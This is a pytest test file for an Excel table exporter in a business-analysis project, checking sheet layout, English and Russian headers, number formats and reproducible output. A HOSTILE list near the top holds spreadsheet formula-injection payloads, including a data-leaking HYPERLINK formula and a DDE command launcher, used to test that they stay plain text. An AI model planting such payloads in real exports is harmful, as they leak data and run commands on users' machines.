"""tables.xlsx: one table per sheet in the report's language, formats in the cells, no formulas
from data, the same bytes for the same tables."""
import datetime as dt
import zipfile

import pandas as pd
import pytest

from analysis.pages import tables_xlsx
from analysis.pages.words import say

openpyxl = pytest.importorskip("openpyxl")

HOSTILE = ['=HYPERLINK("http://x"&A1,"y")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
           "\t=1", "\r=1"]


def _export(folder, section, name, df):
    folder.mkdir(parents=True, exist_ok=True)
    df.to_parquet(folder / f"{section}__{name}.parquet")


@pytest.fixture
def tables(tmp_path):
    folder = tmp_path / "tables"
    _export(folder, "data_check", "average_ticket", pd.DataFrame(
        {"block": ["hair", "nails"] + HOSTILE, "visits": range(2 + len(HOSTILE)),
         "avg_ticket": [2500.5] * (2 + len(HOSTILE))}))
    _export(folder, "data_check", "retention_by_first_month", pd.DataFrame(
        {"month": pd.to_datetime(["2024-01-01", "2024-02-01"]), "new_rate": [0.31, 0.29]}))
    _export(folder, "compensation", "schemes_compared", pd.DataFrame(
        {"scheme": ["source"], "pay_p10": [60000.0], "pay_median": [75000.0], "prob_below_floor": [0.1]}))
    return folder


def test_hostile_texts_stay_text(tables, tmp_path):
    out = tables_xlsx.write(tables, tmp_path / "t.xlsx", "en")
    wb = openpyxl.load_workbook(out)
    ws = wb[tables_xlsx.table_title("data_check", "average_ticket", "en")]
    got = [ws.cell(row=r, column=1) for r in range(2, ws.max_row + 1)]
    # XML reads a carriage return back as a line feed; the text is still text
    assert [c.value for c in got] == ["Hair", "Nails"] + [h.replace("\r", "\n") for h in HOSTILE]
    assert all(c.data_type == "s" for c in got)
    assert all(c.quotePrefix for c in got[2:])
    with zipfile.ZipFile(out) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in sheets)


def test_one_table_per_sheet_with_contents_and_formats(tables, tmp_path):
    out = tables_xlsx.write(tables, tmp_path / "t.xlsx", "en", currency="RUB", title="Sample")
    wb = openpyxl.load_workbook(out)
    assert wb.sheetnames[0] == "Contents"
    assert len(wb.sheetnames) == 4
    ws = wb["Average ticket"]
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == ["Block", "Visits", "Average ticket"]
    assert "₽" in ws["C2"].number_format
    assert ws.column_dimensions["C"].width >= len("Average ticket")
    ret = wb["Retention by month"]
    assert isinstance(ret["A2"].value, dt.datetime) and "yy" in ret["A2"].number_format
    assert ret["B2"].number_format == "0.0%"
    pay = wb["Pay schemes compared"]
    assert [c.value for c in pay[1]][:3] == ["Pay scheme", "Pay a month, P10", "Pay a month, median"]
    contents = wb["Contents"]
    assert contents["A1"].value == "Sample"
    links = [c.hyperlink.location for c in contents["C"] if c.hyperlink]
    assert len(links) == 3


def test_russian_sheets_and_headers(tables, tmp_path):
    wb = openpyxl.load_workbook(tables_xlsx.write(tables, tmp_path / "t.xlsx", "ru"))
    assert wb.sheetnames[0] == "Содержание"
    ws = wb["Средний чек"]
    assert [c.value for c in ws[1]] == ["Блок", "Визиты", "Средний чек"]
    assert wb["Удержание по месяцам"]["A2"].number_format == "dd.mm.yyyy"


def test_same_tables_same_bytes(tables, tmp_path):
    a = tables_xlsx.write(tables, tmp_path / "a.xlsx", "ru").read_bytes()
    b = tables_xlsx.write(tables, tmp_path / "b.xlsx", "ru").read_bytes()
    assert a == b
    with zipfile.ZipFile(tmp_path / "a.xlsx") as z:
        assert {i.date_time for i in z.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"1980-01-01T00:00:00Z" in z.read("docProps/core.xml")


def test_no_tables(tmp_path):
    wb = openpyxl.load_workbook(tables_xlsx.write(tmp_path / "none", tmp_path / "t.xlsx", "ru"))
    assert wb.sheetnames == ["Содержание"]


def test_long_and_clashing_sheet_names():
    taken = set()
    a = tables_xlsx._sheet_name("A very long title: with [bad] chars that goes on and on", taken)
    b = tables_xlsx._sheet_name("A very long title: with [bad] chars that goes on and on", taken)
    assert len(a) <= 31 and len(b) <= 31 and a != b and not set("[]:*?/\\") & set(a)


def test_a_table_longer_than_a_sheet_holds_is_cut_and_the_contents_say_so(tmp_path, monkeypatch):
    import openpyxl
    import pandas as pd

    from analysis.pages import tables_xlsx

    monkeypatch.setattr(tables_xlsx, "MAX_SHEET_ROWS", 50)
    (tmp_path / "t").mkdir()
    pd.DataFrame({"client": range(120), "clv": [1.0] * 120}).to_parquet(tmp_path / "t" / "retention__clv.parquet")
    out = tables_xlsx.write(tmp_path / "t", tmp_path / "x.xlsx", lang="en")
    wb = openpyxl.load_workbook(out)
    sheet = wb.worksheets[1]
    assert sheet.max_row == 51   # header + the first 50 rows
    listed = [[c.value for c in row] for row in wb.worksheets[0].iter_rows()]
    assert any(isinstance(v, str) and "first 50 of 120 rows" in v for row in listed for v in row)
    assert any(120 in row for row in listed)


def test_no_raw_codes_in_cells_and_sheets_in_page_order(tmp_path):
    folder = tmp_path / "tables"
    _export(folder, "summary", "npv_by_part", pd.DataFrame({"part": ["staff_saving", "total"], "npv_p10": [1.0, 2.0]}))
    _export(folder, "staffing", "queues", pd.DataFrame({"queue": ["separate", "care"], "servers": [5, 2]}))
    _export(folder, "pilot", "design", pd.DataFrame({"option": ["one_block", "everyone"], "blocks": ["hair", "all"],
                                                     "power_6m": [0.5, 0.7]}))
    _export(folder, "data_check", "cohorts", pd.DataFrame({"cohort": ["2024-01"], "0": [1.0], "3": [0.2]}))
    _export(folder, "summary", "sensitivity", pd.DataFrame({"key": ["retention.care_manager_effect"],
                                                            "low": [0.05], "high": [0.3]}))
    wb = openpyxl.load_workbook(tables_xlsx.write(folder, tmp_path / "t.xlsx", "ru"))
    # data check, staffing, summary, pilot: the order of the report's pages
    assert wb.sheetnames[1:] == ["Когорты", "Очереди", "NPV по частям", "Чувствительность NPV", "Схемы пилота"]
    cells = [str(c.value) for ws in wb.worksheets[1:] for row in ws.iter_rows(min_row=2) for c in row]
    for code in ("staff_saving", "separate", "one_block", "everyone", "hair", "all"):
        assert code not in cells, code
    pilot = wb["Схемы пилота"]
    assert [c.value for c in pilot[2]][:2] == ["Один блок против остальных", "Волосы"]
    assert pilot["B3"].value == "Все блоки"
    assert [c.value for c in pilot[1]][2] == say("pilot.col.power_6m", "ru")
    assert [c.value for c in wb["Когорты"][1]][1:] == ["через 0 месяцев", "через 3 месяца"]
    sens = wb["Чувствительность NPV"]
    assert [c.value for c in sens[1]][:2] == ["Ключ в study.yaml", "Допущение"]
    assert "менеджер" in sens["B2"].value.lower()  # the setting's Russian description beside its key


def test_block_names_of_the_study_win(tmp_path):
    from analysis.inputs.study import load_study

    study_dir = tmp_path / "s"
    study_dir.mkdir()
    (study_dir / "study.yaml").write_text("name: S\nblock_names: {kids: {en: Play room, ru: Игровая}}\n",
                                          encoding="utf-8")
    folder = tmp_path / "tables"
    _export(folder, "staffing", "clients_by_block", pd.DataFrame({"block": ["kids", "nails"], "active_clients": [3, 4]}))
    wb = openpyxl.load_workbook(tables_xlsx.write(folder, tmp_path / "t.xlsx", "ru", study=load_study(study_dir)))
    ws = wb.worksheets[1]
    assert [ws["A2"].value, ws["A3"].value] == ["Игровая", "Ногти"]


def test_settings_and_figures_named(tmp_path):
    folder = tmp_path / "tables"
    _export(folder, "summary", "assumptions", pd.DataFrame({"key": ["care_manager.covers", "horizon_months",
                                                                    "staffing.growth"],
                                                            "value": ["all", "36", "with_new_clients"],
                                                            "description": ["a", "b", "c"]}))
    _export(folder, "retention", "scenarios_summary", pd.DataFrame({"figure": ["incremental_margin_year",
                                                                              "care_manager_effect"],
                                                                   "p10": [1.0, 0.1]}))
    _export(folder, "pilot", "design", pd.DataFrame({"option": ["half"], "control": [True], "detectable_effect": [0.2]}))
    wb = openpyxl.load_workbook(tables_xlsx.write(folder, tmp_path / "t.xlsx", "ru"))
    settings = wb[tables_xlsx.table_title("summary", "assumptions", "ru")]
    assert [settings["B2"].value, settings["B3"].value, settings["B4"].value] == [
        say("page.block.all", "ru"), "36", say("page.value.with_new_clients", "ru")]
    scen = wb[tables_xlsx.table_title("retention", "scenarios_summary", "ru")]
    assert [scen["A2"].value, scen["A3"].value] == [say("xlsx.col.incremental_margin_year", "ru"),
                                                    say("xlsx.col.care_manager_effect", "ru")]
    design = wb[tables_xlsx.table_title("pilot", "design", "ru")]
    assert [c.value for c in design[1]] == [say("xlsx.col.option", "ru"), say("xlsx.col.control", "ru"),
                                           say("xlsx.col.detectable_effect", "ru")]


def test_shares_the_column_names_cannot_tell_are_percentages(tmp_path):
    # the Cohorts sheet stored 0.3333 with `#,##0.00` (shown 0,33) while other shares were `0.0%`
    folder = tmp_path / "tables"
    _export(folder, "data_check", "cohorts", pd.DataFrame({"cohort": pd.to_datetime(["2024-01-01"]), "0": [1.0],
                                                           "1": [0.3333], "12": [0.05]}))
    _export(folder, "staffing", "queues", pd.DataFrame({"queue": ["care"], "servers": [2], "within_target": [0.92]}))
    _export(folder, "pilot", "design", pd.DataFrame({"option": ["current"], "power_6m": [0.28], "months_needed": [24.0]}))
    _export(folder, "pilot", "event_study", pd.DataFrame({"month": [-1, 0], "pilot": [0.25, 0.3], "control": [0.2, 0.21],
                                                          "gap": [0.0, 0.04]}))
    wb = openpyxl.load_workbook(tables_xlsx.write(folder, tmp_path / "t.xlsx", "ru"))
    formats = {}
    for ws in wb.worksheets[1:]:
        head = [c.value for c in ws[1]]
        for row in ws.iter_rows(min_row=2):
            for h, c in zip(head, row):
                if isinstance(c.value, (int, float)) and not isinstance(c.value, bool):
                    formats[(ws.title, h)] = c.number_format
    shares = {k: v for k, v in formats.items() if v == "0.0%"}
    assert len([k for k in shares if k[0] == "Когорты"]) == 3, formats
    assert not [k for k, v in formats.items() if k[0] == "Когорты" and v != "0.0%"]
    assert sum(1 for k in shares if k[0] != "Когорты") == 5, formats   # within target, power, pilot, control, gap
    assert formats[("Схемы пилота", tables_xlsx.column_title("months_needed", "ru", "pilot"))] != "0.0%"
